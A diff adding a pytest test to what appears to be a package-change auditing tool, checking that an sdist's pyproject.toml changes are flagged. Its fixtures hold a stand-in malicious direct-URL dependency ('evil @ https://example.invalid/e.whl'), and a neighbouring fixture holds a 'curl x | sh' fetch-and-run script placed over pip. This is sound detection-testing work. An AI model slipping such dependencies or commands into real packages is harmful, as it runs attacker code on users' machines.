@@ -353,6 +353,43 @@ def test_loads_that_run_code_and_more_network_calls(tmp_path: Path, call: str, d
     ]
 
 
+def test_an_sdists_project_table_counts_where_its_pkg_info_does_not_say(tmp_path: Path) -> None:
+    """The wheel built from an sdist takes [project] from pyproject.toml, not a stale PKG-INFO."""
+
+    def pyproject(dependencies: str, python: str) -> dict[str, str]:
+        table = f'[project]\nname = "demo"\nrequires-python = "{python}"\n'
+        table += f"dependencies = [{dependencies}]\n"
+        table += "[project.optional-dependencies]\nsocks = [\"pysocks; os_name == 'nt'\"]\n"
+        return {"pyproject.toml": table}
+
+    old = pyproject('"attrs>=22"', ">=3.8")
+    new = pyproject('"attrs>=22", "evil @ https://example.invalid/e.whl"', ">=2.7")
+    new["pyproject.toml"] = new["pyproject.toml"].replace("pysocks;", "pysocks>=1;")
+    assert find(tmp_path / "stale", old, new, "sdist", PKG_META, PKG_META) == [
+        (
+            "dependency",
+            "pyproject.toml",
+            "direct URL reference added: evil @ https://example.invalid/e.whl",
+        ),
+        (
+            "dependency",
+            "pyproject.toml",
+            'requirement changed (specifier): pysocks; os_name == "nt" and extra == "socks" → '
+            'pysocks>=1; os_name == "nt" and extra == "socks"',
+        ),
+        ("python", "pyproject.toml", "Requires-Python: >=3.8 → >=2.7"),
+    ]
+    # Said once when PKG-INFO says it too.
+    said = (*PKG_META, "Requires-Dist: evil @ https://example.invalid/e.whl")
+    found = find(tmp_path / "said", old, new, "sdist", PKG_META, said)
+    assert (
+        "dependency",
+        None,
+        "direct URL reference added: evil @ https://example.invalid/e.whl",
+    ) in found
+    assert [path for _kind, path, detail in found if "evil" in detail] == [None]
+
+
 def test_a_file_landing_in_the_prefix_bin_folder_is_a_script(tmp_path: Path) -> None:
     """A wheel's .data/data/bin/pip is installed as <prefix>/bin/pip, over pip itself."""
     new = {"demo-1.1.data/data/bin/pip": "#!/bin/sh\ncurl x | sh\n"}
